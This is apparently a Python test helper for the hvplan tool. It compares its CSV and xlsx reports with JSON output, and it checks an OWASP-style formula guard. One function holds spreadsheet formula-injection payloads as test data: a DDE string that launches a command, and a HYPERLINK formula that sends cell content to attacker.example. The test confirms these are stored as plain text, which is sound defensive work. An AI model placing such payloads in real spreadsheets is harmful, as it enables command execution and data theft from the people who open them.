#!/usr/bin/python3
"""Reads hvplan's CSV and xlsx reports back (Python's csv module; the OOXML package with Python's
zipfile and ElementTree, below, or with --openpyxl Debian's python3-openpyxl) and compares them
cell by cell with the JSON reports of the same run.

    compare.py [--openpyxl] RESULT COMMAND ARGUMENTS... [-- RESULT COMMAND ARGUMENTS...]...

    csv-plan PLAN.json INVENTORY.json REPORT.csv      csv-size SIZE.json REPORT.csv
    csv-diff DIFF.json REPORT.csv                     xlsx-plan PLAN.json INVENTORY.json REPORT.xlsx
    xlsx-size SIZE.json REPORT.xlsx                   xlsx-diff DIFF.json REPORT.xlsx
    xlsx-hostile REPORT.xlsx                          xlsx-units REPORT.xlsx

INVENTORY.json is the plan's source inventory (`hvplan collect` of its sources: the VMs' hosts,
states, disks, ...).  Each comparison writes its file RESULT: what differs, then "ok N cells"
or "FAIL"; Python starts once for them all.  Used by t/t4600-sheets.sh."""
import csv
import io
import json
import re
import os
import sys

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from notation import terminal  # noqa: E402  (t/notation.py)

GIB = 1073741824
checked = 0
failures = []


def same(where, actual, expected):
    global checked
    checked += 1
    if actual != expected:
        failures.append("%s: %r, expected %r" % (where, actual, expected))


def csv_text(value):
    """A text cell of the CSV reports: the notation, then the formula guard (OWASP)."""
    if value is None:
        return ""
    cell = terminal(value)
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def csv_list(values):
    """A list cell: each value in the notation, one a line, the guard on the whole cell."""
    cell = "\n".join(terminal(v) for v in values)
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def csv_number(value):
    return "" if value is None else str(value)


def csv_bool(value):
    return "true" if value else "false"


def read_csv(path):
    with open(path, "rb") as f:
        data = f.read()
    if data.startswith(b"\xef\xbb\xbf"):
        data = data[3:]
    text = data.decode("utf-8")
    # RFC 4180: every record ends with CRLF (a quoted field may hold a bare LF).
    if not text.endswith("\r\n"):
        failures.append("%s: the last record does not end with CRLF" % path)
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def compare_rows(name, rows, expected):
    same(name + " records", len(rows), len(expected))
    for r, (row, want) in enumerate(zip(rows, expected)):
        same("%s record %d width" % (name, r + 1), len(row), len(want))
        for c, (cell, value) in enumerate(zip(row, want)):
            same("%s record %d field %d" % (name, r + 1, c + 1), cell, value)


def inventory_vms(inventory):
    return [(host, vm) for host in inventory["hosts"] for vm in host["vms"]]


def csv_plan(plan_path, inventory_path, report):
    plan, inventory = load(plan_path), load(inventory_path)
    rows = read_csv(report)
    header = ["vm", "source_host", "state", "vcpus", "memory_bytes", "storage_bytes",
              "snapshots", "saved_state", "concurrent", "configuration_version", "migration_path",
              "compatibility"]
    placed = placed_on(plan)
    expected = [header + (["destination_host"] if placed is not None else [])]
    for vm, (host, item) in zip(plan["vms"], inventory_vms(inventory)):
        row = [csv_text(vm["name"]), csv_text(host["name"]), item["state"], str(vm["vcpus"]),
               str(vm["memory_bytes"]), str(vm["storage_bytes"]), str(vm["snapshots"]),
               csv_bool(vm["saved_state"]), csv_bool(vm["concurrent"]),
               csv_text(vm.get("configuration_version")), vm["migration_path"],
               vm["compatibility"]]
        if placed is not None:
            row.append(csv_text(placed.get(vm["name"])))
        expected.append(row)
    same("csv plan VMs", len(plan["vms"]), len(inventory_vms(inventory)))
    compare_rows("csv plan", rows, expected)


def placed_on(plan):
    """With several destination hosts: VM name -> the host the placement put it on."""
    if "placement" not in plan:
        return None
    return {vm: host["host"] for host in plan["placement"]["hosts"] for vm in host["vms"]}


def size_host_cells(model, host):
    capacity = host.get("capacity") or model["host_capacity"]
    return [csv_text(host["host"]), str(len(host["vms"])), str(host["memory_bytes"]),
            str(host["vcpus"]), str(host["storage_bytes"]), str(host["nics"]),
            str(capacity["memory_bytes"]), str(capacity["vcpus"]),
            csv_number(capacity["storage_bytes"]), str(capacity["nics"]),
            csv_list(host["vms"])]


def csv_size(size_path, report):
    size = load(size_path)
    rows = read_csv(report)
    expected = [["model", "fits", "recommended", "host", "vm_count", "memory_bytes", "vcpus",
                 "storage_bytes", "nics", "capacity_memory_bytes", "capacity_vcpus",
                 "capacity_storage_bytes", "capacity_nics", "vms"]]
    for model in size["models"]:
        lead = [csv_text(model["name"]), csv_bool(model["fits"]),
                csv_bool(model["name"] == size["recommended"])]
        if not model["placement"]:
            expected.append(lead + [""] * 11)
        for host in model["placement"]:
            expected.append(lead + size_host_cells(model, host))
    compare_rows("csv size", rows, expected)


def diff_value(change, key, text):
    if change["status"] != "changed" or change[key] is None:
        return ""
    value = change[key]
    if isinstance(value, bool):
        return csv_bool(value)
    if isinstance(value, int):
        return str(value)
    return text(value)


def diff_records(diff):
    for item in diff["objects"]:
        for change in item["changes"] or [None]:
            yield item, change


def csv_diff(diff_path, report):
    diff = load(diff_path)
    rows = read_csv(report)
    expected = [["object_kind", "object", "host", "object_status", "kind", "subject", "status",
                 "field", "old", "new"]]
    for item, change in diff_records(diff):
        row = [item["kind"], csv_text(item["name"]), csv_text(item["host"]), item["status"]]
        if change is None:
            row += [""] * 6
        else:
            row += [change["kind"], csv_text(change["subject"]), change["status"],
                    change["field"] or "", diff_value(change, "old", csv_text),
                    diff_value(change, "new", csv_text)]
        expected.append(row)
    compare_rows("csv diff", rows, expected)


# xlsx ------------------------------------------------------------------------------------------

def xlsx_decode(value):
    """A text cell as Excel shows it: ECMA-376's _xHHHH_ escapes of control characters decoded
    (openpyxl 3.0 leaves them)."""
    if isinstance(value, str):
        return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)
    return value


# The workbook is read by the reader below, Python's zipfile and ElementTree on the parts of
# ECMA-376 Part 1 (SpreadsheetML, section 18) that the comparisons look at: it starts in a tenth of
# the time python3-openpyxl takes to load (0.25 s of CPU, most of t4600's).  With --openpyxl (the
# expensive run of t4600) the same comparisons read the workbook with openpyxl as well, a reader
# written by others.
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELATIONSHIP = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
PACKAGE_RELS = "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"
# ECMA-376 Part 1, 18.8.30 numFmt: the built-in formats the reports may use.
BUILTIN_FORMATS = {0: "General", 1: "0", 2: "0.00", 3: "#,##0", 4: "#,##0.00", 9: "0%", 10: "0.00%",
                   49: "@"}
use_openpyxl = False


def column_letter(number):
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def split_reference(reference):
    """"AB12" -> (12, 28)."""
    match = re.fullmatch(r"([A-Z]+)([0-9]+)", reference)
    column = 0
    for letter in match.group(1):
        column = column * 26 + ord(letter) - 64
    return int(match.group(2)), column


def is_date_format(code):
    """A number format that shows a date or a time (ECMA-376 Part 1, 18.8.31: the codes y m d h s
    outside quoted text and [...] sections)."""
    bare = re.sub(r'"[^"]*"|\[[^\]]*\]', "", code or "")
    return re.search("[dmhysDMHYS]", bare) is not None


def serial_date(number):
    """A date of the 1900 date system (ECMA-376 Part 1, 18.17.4.1): days since 1899-12-30 (past
    1900-03-01, where the reports' dates are), to the millisecond."""
    import datetime
    days, fraction = divmod(number, 1)
    return (datetime.datetime(1899, 12, 30) + datetime.timedelta(days=days)
            + datetime.timedelta(milliseconds=round(fraction * 86400000)))


class Cell:
    """A cell as the comparisons see it (openpyxl's names): value, data_type ("s" text, "n"
    number or empty, "b" boolean, "d" date, "f" formula), number_format, coordinate."""
    def __init__(self, row, column, value=None, data_type="n", number_format="General"):
        self.row, self.column = row, column
        self.value, self.data_type, self.number_format = value, data_type, number_format
        self.coordinate = "%s%d" % (column_letter(column), row)


class AutoFilter:
    def __init__(self, ref):
        self.ref = ref


class Sheet:
    def __init__(self, title, root, strings, formats):
        self.title = title
        self.cells = {}
        for c in root.iter(MAIN + "c"):
            row, column = split_reference(c.get("r"))
            self.cells[row, column] = self.read_cell(c, row, column, strings, formats)
        self.max_row = max((r for r, _ in self.cells), default=1)
        self.max_column = max((c for _, c in self.cells), default=1)
        pane = root.find("%ssheetViews/%ssheetView/%spane" % (MAIN, MAIN, MAIN))
        frozen = pane is not None and pane.get("state") == "frozen"
        self.freeze_panes = pane.get("topLeftCell") if frozen else None
        autofilter = root.find(MAIN + "autoFilter")
        self.auto_filter = AutoFilter(None if autofilter is None else autofilter.get("ref"))

    @staticmethod
    def read_cell(c, row, column, strings, formats):
        """18.3.1.4 c: t="s" an index into the shared strings, "inlineStr" its own is/t, "b" 0 or
        1, "n" (or none) a number; an f child is a formula, whatever its cached value."""
        kind, v = c.get("t", "n"), c.find(MAIN + "v")
        number_format = formats[int(c.get("s", "0"))]
        if c.find(MAIN + "f") is not None:
            return Cell(row, column, "=" + (c.find(MAIN + "f").text or ""), "f", number_format)
        if kind == "inlineStr":
            text = "".join(t.text or "" for t in c.iter(MAIN + "t"))
            return Cell(row, column, text, "s", number_format)
        if v is None:
            return Cell(row, column, None, "n", number_format)
        if kind == "s":
            return Cell(row, column, strings[int(v.text)], "s", number_format)
        if kind == "b":
            return Cell(row, column, v.text == "1", "b", number_format)
        if kind == "str":
            return Cell(row, column, v.text or "", "s", number_format)
        number = float(v.text) if re.search("[.eE]", v.text) else int(v.text)
        if is_date_format(number_format):
            return Cell(row, column, serial_date(number), "d", number_format)
        return Cell(row, column, number, "n", number_format)

    def cell(self, row, column):
        return self.cells.get((row, column)) or Cell(row, column)

    def __getitem__(self, key):
        if isinstance(key, int):  # a row, as openpyxl's sheet[3]
            return tuple(self.cell(key, c) for c in range(1, self.max_column + 1))
        return self.cell(*split_reference(key))

    def iter_rows(self, min_row=1):
        for row in range(min_row, self.max_row + 1):
            yield self[row]


class Book:
    """An xlsx package (ECMA-376 Part 2, Open Packaging Conventions) read with zipfile: the
    workbook's sheets in their order (18.2.27 workbook, 18.2.19 sheet, through the workbook's
    relationships), the shared strings (18.4.9 sst) and the cells' number formats (18.8.10
    cellXfs, 18.8.31 numFmts)."""
    def __init__(self, path):
        import zipfile
        import xml.etree.ElementTree as ElementTree
        with zipfile.ZipFile(path) as package:
            def part(name):
                return ElementTree.fromstring(package.read(name))
            strings = []
            if "xl/sharedStrings.xml" in package.namelist():
                strings = ["".join(t.text or "" for t in si.iter(MAIN + "t"))
                           for si in part("xl/sharedStrings.xml").findall(MAIN + "si")]
            styles = part("xl/styles.xml")
            custom = {int(f.get("numFmtId")): f.get("formatCode")
                      for f in styles.iter(MAIN + "numFmt")}
            formats = [custom.get(int(xf.get("numFmtId", "0")),
                                  BUILTIN_FORMATS.get(int(xf.get("numFmtId", "0"))))
                       for xf in styles.find(MAIN + "cellXfs").findall(MAIN + "xf")]
            targets = {r.get("Id"): r.get("Target")
                       for r in part("xl/_rels/workbook.xml.rels").iter(PACKAGE_RELS)}
            self.worksheets = []
            for sheet in part("xl/workbook.xml").iter(MAIN + "sheet"):
                target = targets[sheet.get(RELATIONSHIP)].lstrip("/")
                name = target if target.startswith("xl/") else "xl/" + target
                self.worksheets.append(Sheet(sheet.get("name"), part(name), strings, formats))
        self.sheetnames = [sheet.title for sheet in self.worksheets]

    def __getitem__(self, title):
        return self.worksheets[self.sheetnames.index(title)]


def read_book(path):
    if not use_openpyxl:
        return Book(path)
    import openpyxl
    return openpyxl.load_workbook(path)


def open_book(path, names):
    book = read_book(path)
    if names is not None:
        same("sheets", book.sheetnames, names)
    for sheet in book.worksheets:
        same(sheet.title + " frozen pane", sheet.freeze_panes, "A2")
        last = "%s%d" % (column_letter(sheet.max_column), sheet.max_row)
        same(sheet.title + " autofilter", sheet.auto_filter.ref, "A1:" + last)
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if cell.data_type == "f":
                    failures.append("%s!%s is a formula" % (sheet.title, cell.coordinate))
    return book


class Bytes:
    """An expected size: the cell holds GiB, shown with the GiB number format."""
    def __init__(self, value):
        self.value = value


def compare_sheet(book, title, header, expected):
    sheet = book[title]
    rows = list(sheet.iter_rows())
    same(title + " header", [c.value for c in rows[0]], header)
    same(title + " rows", len(rows) - 1, len(expected))
    for r, (row, want) in enumerate(zip(rows[1:], expected)):
        for c, (cell, value) in enumerate(zip(row, want)):
            where = "%s!%s" % (title, cell.coordinate)
            if isinstance(value, Bytes):
                same(where + " format", cell.number_format, '#,##0.00 "GiB"')
                # 16 significant digits (libxlsxwriter): the bytes, rounded, below 10^15.
                actual = None if cell.value is None else round(cell.value * GIB)
                same(where, actual, value.value)
            elif isinstance(value, str):
                same(where + " type", cell.data_type, "s")
                same(where, xlsx_decode(cell.value), value)
            else:
                same(where, cell.value, value)


def findings_rows(findings, model=False):
    return [([None] if model is not False else []) + [f["severity"], f["requirement"], f["vm"],
                                                     f["message"]] for f in findings]


def warnings_rows(warnings):
    return [[w["file"], w["position"], w["message"]] for w in warnings]


def xlsx_plan(plan_path, inventory_path, report):
    plan, inventory = load(plan_path), load(inventory_path)
    placed = placed_on(plan)
    book = open_book(report, ["Summary", "Requirements", "VMs", "Disks", "Adapters", "Switches",
                              "Snapshots", "Hosts", "Findings", "Warnings"]
                     + (["Placement"] if placed is not None else []))
    compare_sheet(book, "Summary", ["item", "value"],
                  [["verdict", plan["verdict"]], ["source", plan["source"]],
                   ["destination", plan["destination"]],
                   ["memory policy", plan["requirements"]["memory"]["policy"]]])
    req = plan["requirements"]
    compare_sheet(book, "Requirements",
                  ["requirement", "verdict", "required", "worst case", "available", "unit"],
                  [["storage", req["storage"]["verdict"], Bytes(req["storage"]["required_bytes"]),
                    Bytes(req["storage"]["worst_case_bytes"]),
                    Bytes(req["storage"]["available_bytes"]), "GiB"],
                   ["memory", req["memory"]["verdict"], Bytes(req["memory"]["required_bytes"]),
                    None, Bytes(req["memory"]["available_bytes"]), "GiB"],
                   ["network", req["network"]["verdict"], req["network"]["required_nics"], None,
                    req["network"]["available_nics"], "physical NICs"],
                   ["processor", req["processor"]["verdict"],
                    req["processor"]["required_logical_processors"], None,
                    req["processor"]["available_logical_processors"], "logical processors"]])
    pairs = inventory_vms(inventory)
    vms = []
    for vm, (host, item) in zip(plan["vms"], pairs):
        memory = item["memory"]
        dynamic = memory["dynamic"]
        vms.append([vm["name"], host["name"], item["state"], vm["vcpus"],
                    Bytes(vm["memory_bytes"]), Bytes(vm["storage_bytes"]), vm["snapshots"],
                    vm["saved_state"], vm["concurrent"], item["generation"], dynamic,
                    Bytes(memory["startup_bytes"]),
                    Bytes(memory["minimum_bytes"]) if dynamic else None,
                    Bytes(memory["maximum_bytes"]) if dynamic else None,
                    item["configuration_version"], item["config_path"]]
                   + ([placed.get(vm["name"])] if placed is not None else []))
    compare_sheet(book, "VMs", ["VM", "source host", "state", "vCPUs", "memory counted",
                                "storage counted", "checkpoints", "saved state", "concurrent",
                                "generation", "dynamic memory", "startup memory",
                                "minimum memory", "maximum memory", "configuration version",
                                "configuration file"]
                  + (["destination host"] if placed is not None else []), vms)
    disks = []
    for host, item in pairs:
        files = {d["path"]: d for d in host["disks"]}
        for drive in item["drives"]:
            row = [item["name"], drive["controller_type"], drive["controller_number"],
                   drive["controller_location"], drive["disk_path"]]
            disk = files.get(drive["disk_path"])
            if disk is not None:
                row += [disk["format"], disk["type"], Bytes(disk["virtual_size_bytes"]),
                        Bytes(disk["file_size_bytes"]), disk["parent_path"], disk["header_read"]]
            disks.append(row)
    compare_sheet(book, "Disks", ["VM", "controller", "controller number", "controller location",
                                  "path", "format", "type", "virtual size", "file size", "parent",
                                  "readable"], disks)
    compare_sheet(book, "Adapters", ["VM", "adapter", "MAC", "switch", "connected"],
                  [[item["name"], a["name"], a["mac"], a["switch_name"], a["connected"]]
                   for host, item in pairs for a in item["adapters"]])
    compare_sheet(book, "Switches", ["host", "switch", "type", "physical NICs", "id"],
                  [[host["name"], s["name"], s["type"],
                    "\n".join(s["physical_nics"]) if s["physical_nics"] else None, s["id"]]
                   for host in inventory["hosts"] for s in host["switches"]])
    snapshots = []
    for host, item in pairs:
        names = {s["id"]: s["name"] for s in item["snapshots"]}
        for s in item["snapshots"]:
            snapshots.append([item["name"], s["name"], names.get(s["parent_id"]), None,
                              s["saved_state"], s["vcpus"], Bytes(s["memory"]["startup_bytes"]),
                              len(s["drives"]), s["id"] == item["current_snapshot_id"], s["id"]])
    compare_sheet(book, "Snapshots", ["VM", "checkpoint", "parent", "created (UTC)",
                                      "saved state", "vCPUs", "startup memory", "hard disks",
                                      "current", "id"], skip_times(book, snapshots, pairs))
    compare_sheet(book, "Hosts", ["host", "operating system", "memory", "logical processors",
                                  "processor", "vendor", "physical NICs", "switches", "VMs"],
                  [[h["name"], h["os"], Bytes(h["memory_bytes"]), h["logical_processors"],
                    h["processor"]["name"], h["processor"]["vendor"], len(h["physical_nics"]),
                    len(h["switches"]), len(h["vms"])] for h in inventory["hosts"]])
    compare_sheet(book, "Findings", ["severity", "requirement", "VM", "message"],
                  findings_rows(plan["findings"]))
    compare_sheet(book, "Warnings", ["file", "position", "message"],
                  warnings_rows(plan["warnings"]))
    if placed is not None:
        model = {"name": "existing hosts", "host_capacity": None}
        compare_sheet(book, "Placement", PLACEMENT_HEADER,
                      [placement_row(model, h) for h in plan["placement"]["hosts"]])


def skip_times(book, snapshots, pairs):
    """The creation times: a date cell, UTC, the inventory's Unix seconds to the second."""
    import datetime
    times = [s["creation_time"] for host, item in pairs for s in item["snapshots"]]
    for row, cell_row, seconds in zip(snapshots, book["Snapshots"].iter_rows(min_row=2), times):
        cell = cell_row[3]
        if seconds:
            want = datetime.datetime(1970, 1, 1) + datetime.timedelta(seconds=seconds)
            same("Snapshots!%s" % cell.coordinate, cell.value, want)
        row[3] = cell.value
    return snapshots


def capacity_cells(model, host):
    capacity = host.get("capacity") or model["host_capacity"]
    storage = capacity["storage_bytes"]
    return [Bytes(capacity["memory_bytes"]), capacity["vcpus"],
            None if storage is None else Bytes(storage), capacity["nics"]]


PLACEMENT_HEADER = ["model", "host", "VMs", "memory", "vCPUs", "storage", "NICs",
                    "capacity memory", "capacity vCPUs", "capacity storage", "capacity NICs",
                    "VM names"]


def placement_row(model, host):
    return ([model["name"], host["host"], len(host["vms"]), Bytes(host["memory_bytes"]),
             host["vcpus"], Bytes(host["storage_bytes"]), host["nics"]]
            + capacity_cells(model, host) + ["\n".join(host["vms"]) or None])


def xlsx_size(size_path, report):
    size = load(size_path)
    book = open_book(report, ["Summary", "Models", "Placement", "Findings", "Warnings"])
    demand = size["demand"]
    compare_sheet(book, "Summary", ["item", "value"],
                  [["source", size["source"]], ["recommended", size["recommended"] or None],
                   ["chosen by", size["chosen_by"] or None], ["VMs", demand["vms"]],
                   ["memory demand", Bytes(demand["memory_bytes"])],
                   ["vCPU demand", demand["vcpus"]],
                   ["storage demand", Bytes(demand["storage_bytes"])]])
    models = []
    for m in size["models"]:
        row = [m["name"], m["fits"], m["name"] == size["recommended"], m["hosts_needed"],
               m["packed_hosts"], m["lower_bound"], m["limiting_resource"], m["price"],
               m["total_price"]]
        c = m["host_capacity"]
        if c is not None:
            row += [Bytes(c["memory_bytes"]), c["vcpus"], c["logical_processors"],
                    None if c["storage_bytes"] is None else Bytes(c["storage_bytes"]), c["nics"]]
        models.append(row)
    compare_sheet(book, "Models", ["model", "fits", "recommended", "hosts needed", "packed hosts",
                                   "lower bound", "limiting resource", "price", "total price",
                                   "memory per host", "vCPUs per host",
                                   "logical processors per host", "storage per host",
                                   "NICs per host"], models)
    compare_sheet(book, "Placement", PLACEMENT_HEADER,
                  [placement_row(m, h) for m in size["models"] for h in m["placement"]])
    findings = findings_rows(size["findings"], model=None)
    for m in size["models"]:
        findings += [[m["name"]] + row[1:] for row in findings_rows(m["findings"], model=None)]
    compare_sheet(book, "Findings", ["model", "severity", "requirement", "VM", "message"],
                  findings)
    compare_sheet(book, "Warnings", ["file", "position", "message"],
                  warnings_rows(size["warnings"]))


def xlsx_diff_value(change, key):
    if change["status"] != "changed" or change[key] is None:
        return None
    value = change[key]
    if isinstance(value, bool) or isinstance(value, str):
        return value
    return Bytes(value) if change.get(key + "_human") is not None else value


def xlsx_diff(diff_path, report):
    diff = load(diff_path)
    book = open_book(report, ["Summary", "Changes"])
    s = diff["summary"]
    compare_sheet(book, "Summary", ["item", "value"],
                  [["old", diff["old"]], ["new", diff["new"]], ["equal", diff["equal"]],
                   ["objects", s["objects"]], ["equal", s["equal"]], ["changed", s["changed"]],
                   ["added", s["added"]], ["removed", s["removed"]]])
    rows = []
    for item, change in diff_records(diff):
        row = [item["kind"], item["name"], item["host"], item["status"]]
        if change is not None:
            row += [change["kind"], change["subject"], change["status"], change["field"],
                    xlsx_diff_value(change, "old"), xlsx_diff_value(change, "new")]
        rows.append(row)
    compare_sheet(book, "Changes", ["object kind", "object", "host", "object status", "kind",
                                    "subject", "status", "field", "old", "new"], rows)


def load(path):
    with open(path, encoding="utf-8") as f:
        return json.load(f)


COMMANDS = {"csv-plan": csv_plan, "csv-size": csv_size, "csv-diff": csv_diff,
            "xlsx-plan": xlsx_plan, "xlsx-size": xlsx_size, "xlsx-diff": xlsx_diff}

def xlsx_hostile(report):
    """The hostile inventory's names that start like formulas: exact, and text cells."""
    book = open_book(report, None)
    vms = book["VMs"]
    cells = [vms.cell(row=r, column=1) for r in range(2, 6)]
    same("VMs!A2:A5", [c.value for c in cells],
         ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1"])
    same("VMs!A2:A5 types", [c.data_type for c in cells], ["s"] * 4)
    for sheet, coordinate, value in (("Switches", "B2", '=HYPERLINK("http://attacker.example/"&A1)'),
                                     ("Snapshots", "B2", "=1+1"), ("Hosts", "A2", "@host")):
        same(sheet + "!" + coordinate, book[sheet][coordinate].value, value)
        same(sheet + "!" + coordinate + " type", book[sheet][coordinate].data_type, "s")


def xlsx_units(report):
    """The bundled example's SQL01: 4 vCPUs, 8 GiB startup, 4 to 16 GiB dynamic memory."""
    sheet = open_book(report, None)["VMs"]
    same("VMs row 3", [c.value for c in sheet[3]][:14],
         ["SQL01", "HV-OLD", "saved", 4, 8, sheet["F3"].value, 0, True, True, 1, True, 8, 4, 16])
    same("VMs!E3 format", sheet["E3"].number_format, '#,##0.00 "GiB"')
    same("VMs!D3 type", sheet["D3"].data_type, "n")


COMMANDS = {"csv-plan": csv_plan, "csv-size": csv_size, "csv-diff": csv_diff,
            "xlsx-plan": xlsx_plan, "xlsx-size": xlsx_size, "xlsx-diff": xlsx_diff,
            "xlsx-hostile": xlsx_hostile, "xlsx-units": xlsx_units}


def run(result, command, *arguments):
    """One comparison; its verdict in the file @result: the differences, then "ok N cells" or
    "FAIL" (a shell test reads it, so Python starts once for many comparisons)."""
    global checked, failures
    checked, failures = 0, []
    try:
        COMMANDS[command](*arguments)
    except Exception as error:  # a workbook that does not open is a difference too
        failures.append("%s: %s" % (type(error).__name__, error))
    with open(result, "w") as f:
        for failure in failures[:40]:
            f.write(failure + "\n")
        f.write("FAIL %d of %d\n" % (len(failures), checked) if failures
                else "ok %d cells\n" % checked)


if __name__ == "__main__":
    # compare.py RESULT COMMAND ARGS... [-- RESULT COMMAND ARGS...]...
    arguments = sys.argv[1:]
    if arguments[:1] == ["--openpyxl"]:
        use_openpyxl = True
        arguments = arguments[1:]
    jobs, job = [], []
    for argument in arguments + ["--"]:
        if argument == "--":
            jobs.append(job)
            job = []
        else:
            job.append(argument)
    for job in jobs:
        if job:  # "--" first, or twice: no comparison between
            run(*job)
